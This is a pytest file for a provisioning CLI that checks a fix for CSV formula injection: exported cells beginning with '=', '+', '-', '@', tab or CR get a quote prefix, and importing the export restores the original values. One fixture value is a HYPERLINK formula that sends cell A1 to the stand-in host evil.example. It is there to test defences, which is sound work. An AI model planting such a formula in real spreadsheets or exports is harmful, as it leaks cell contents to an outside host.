"""Item 13: `spaprov export` wrote cells starting with `=`, `+`, `-`, `@` as they were, and a
spreadsheet opening the CSV runs them as formulas (OWASP "CSV Injection").  Export now prefixes
a single quote to such cells (and to cells starting with a quote, so the escape is unambiguous),
and `spaprov import` of that export gives back exactly the original values."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from spaprov.commands.bulk import neutralise, unneutralise
from spaprov.config import load_profile_directory

NAMES = {
    "alice": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "bob": "+4930 1234 5678",
}
TRICKY = [
    "=1+1",
    "+4930 1234",
    "-42",
    "@SUM(A1:A2)",
    "\tTabbed",
    "\rReturn",
    "'quoted",
    "''twice",
    "'=already",
    "'",
    "Plain Name",
    "Semi;=colon",
    'Say "hi", =x',
    "Trailing =",
    "-",
]


def spaprov(*args: str) -> subprocess.CompletedProcess[str]:
    """The CLI's output as written: decoded without newline translation (a CR in a cell stays)."""
    done = subprocess.run([sys.executable, "-m", "spaprov", *args], capture_output=True, timeout=120)
    return subprocess.CompletedProcess(done.args, done.returncode, done.stdout.decode(), done.stderr.decode())


def set_display_name(site: Path, user: str, value: str) -> None:
    path = site / "users" / f"{user}.toml"
    text = path.read_text()
    old = next(line for line in text.splitlines() if line.startswith("display_name = "))
    escaped = value.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    path.write_text(text.replace(old, f'display_name = "{escaped}"'))


def test_export_neutralises_formulas(site: Path) -> None:
    for user, name in NAMES.items():
        set_display_name(site, user, name)
    done = spaprov("export", "users", "--profiles", str(site))
    assert done.returncode == 0, done.stderr
    cells = list(csv.reader(io.StringIO(done.stdout, newline="")))
    assert cells[1][1] == "'" + NAMES["alice"]
    assert cells[2][1] == "'" + NAMES["bob"]
    for row in cells:  # what a spreadsheet would see: no cell starts a formula
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("value", TRICKY)
def test_escape_round_trips(value: str) -> None:
    cell = neutralise(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unneutralise(cell) == (value, cell != value)


@pytest.mark.slow
def test_import_of_our_export_gives_back_the_original_values(site: Path, tmp_path: Path) -> None:
    for index, value in enumerate(TRICKY):
        user = f"user{index:02d}"
        (site / "users" / f"{user}.toml").write_text('display_name = "x"\nem_profiles = ["alice"]\n')
        set_display_name(site, user, value)
    original = {u.user_id: u.display_name for u in load_profile_directory(site).users.values()}
    exported = spaprov("export", "users", "--profiles", str(site))
    assert exported.returncode == 0, exported.stderr
    assert '"Semi;=colon"' in exported.stdout  # a ; separator locale cannot split the cell
    # import it into a copy of the site without those users: every value must come back
    for index in range(len(TRICKY)):
        (site / "users" / f"user{index:02d}.toml").unlink()
    export_file = tmp_path / "users.csv"
    export_file.write_bytes(exported.stdout.encode())
    done = spaprov("import", str(export_file), "--profiles", str(site))
    assert done.returncode == 0, done.stderr
    restored = {u.user_id: u.display_name for u in load_profile_directory(site).users.values()}
    assert restored == original
    assert restored["user01"] == "+4930 1234" and restored["user06"] == "'quoted"


def test_hand_written_cells_follow_the_documented_rule(site: Path, tmp_path: Path) -> None:
    rows = [["carol", "'=not a formula", "alice"], ["dave", "'Dave", "alice"], ["erin", "  Erin  ", "alice"]]
    path = tmp_path / "hand.csv"
    with path.open("w", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["id", "display_name", "em_profiles"])
        writer.writerows(rows)
    done = spaprov("import", str(path), "--profiles", str(site))
    assert done.returncode == 0, done.stderr
    users = load_profile_directory(site).users
    assert users["carol"].display_name == "=not a formula"  # the spreadsheet's text prefix goes
    assert users["dave"].display_name == "'Dave"  # a quote before anything else stays
    assert users["erin"].display_name == "Erin"  # blanks around unescaped cells go, as before
